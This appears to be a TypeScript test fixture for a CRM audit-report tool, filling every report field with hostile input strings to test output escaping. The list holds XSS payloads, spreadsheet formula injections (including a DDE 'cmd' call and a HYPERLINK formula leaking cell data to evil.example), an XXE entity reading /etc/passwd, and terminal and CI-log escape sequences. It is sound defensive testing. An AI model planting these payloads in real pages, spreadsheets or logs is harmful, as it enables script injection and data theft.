import { existsSync, readFileSync } from 'node:fs';
import type { AuditResult } from '../../src/model/audit-result.ts';
import { finding, rep, sample } from './sample.ts';

/** What a stranger might type into a web form, for every medium that a report comes out in. */
export const own: readonly string[] = [
  '<script>document.title="pwned"</script>',
  '"><img src=x onerror=alert(1)>',
  "'><svg onload=alert(1)>",
  '</script><script>alert(1)</script>',
  '<!--<script>',
  '<iframe src="https://evil.example/"></iframe>',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '{{constructor.constructor("alert(1)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant to be one that nobody evaluates
  '${alert(1)}`${alert(2)}`',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '＝1+1',
  '+49 30 901820',
  '-12.50',
  '[click](https://evil.example/)',
  '![pixel](https://evil.example/p.png)',
  '<https://evil.example/>',
  'https://evil.example/ and www.evil.example',
  '@everyone @octocat/admins #1 GH-2',
  '| a | b |\n|---|---|\n| c | d |',
  '```\ncode\n```',
  '# heading\n\n- [ ] task',
  '$\\href{https://evil.example}{x}$',
  '\u001b[2J\u001b[31mAudit passed\u001b[0m',
  '\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007',
  '\u009b31mred',
  'line\r\n::set-output name=x::y',
  '::error file=a,line=1::boo',
  '%0A::warning::boo',
  '##[error]boo',
  '\u202emoc.elpmaxe\u202c',
  'a\u200bb\u2060c\ufeffd',
  'nul\u0000byte\u0008back\u000bvt',
  '\ud800 lone \udfff',
  '\ufffe\uffff',
  ']]><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>&a;',
  '&lt;b&gt; &amp;#x3c; &#0;',
  'Ł李 שלום مرحبا Z̷̡̢̛͓͕͉͕̦̲a̶l̴g̸o̵ 👩‍👩‍👧‍👦',
  'x'.repeat(5000),
  '',
];

const list = new URL('../../../shared/data/hostile/blns/blns.json', import.meta.url);

/** A public list of naughty strings, where one lies beside the project. */
const known: readonly string[] = existsSync(list) ? JSON.parse(readFileSync(list, 'utf8')) : [];

export const corpus: readonly string[] = [...own, ...known];

/** Text in every place that a CRM fills, one finding a string. */
export function hostileResult(texts: readonly string[] = corpus): AuditResult {
  const findings = texts.map((text, i) =>
    finding({
      fingerprint: i.toString(16).padStart(20, '0'),
      record: {
        type: i % 2 === 0 ? 'lead' : 'deal',
        id: text === '' ? `id-${i}` : text,
        name: text,
        url: urlOf(text, i),
      },
      message: `Next step "${text}" names no date`,
      evidence: [
        { field: text, value: text, at: '2026-11-03T14:20:00.000Z' },
        { field: 'Amount', value: -12.5 },
      ],
      exposure: { amount: -12.5, currency: text },
    }),
  );
  const reps = texts.slice(0, 20).map((text, i) =>
    rep({
      id: `rep-${i}`,
      name: text,
      email: text,
      findings: i === 0 ? findings : [],
      notEvaluable: [{ rule: 'notes/thin', reason: text, records: 3 }],
    }),
  );
  const base = sample();
  return sample({
    reps,
    source: {
      ...base.source,
      label: own[0] ?? '',
      gaps: texts.map((text) => ({ what: text, reason: text, affects: ['notes/thin'] })),
    },
    scope: { reps: [...own], only: [], leftOut: [{ reason: own[0] ?? '', records: 1 }], sample: null },
  });
}

const urlOf = (text: string, i: number): string | null =>
  i % 3 === 0 ? `https://acme.my.example/lightning/r/Lead/${i}/view` : i % 3 === 1 ? text : null;
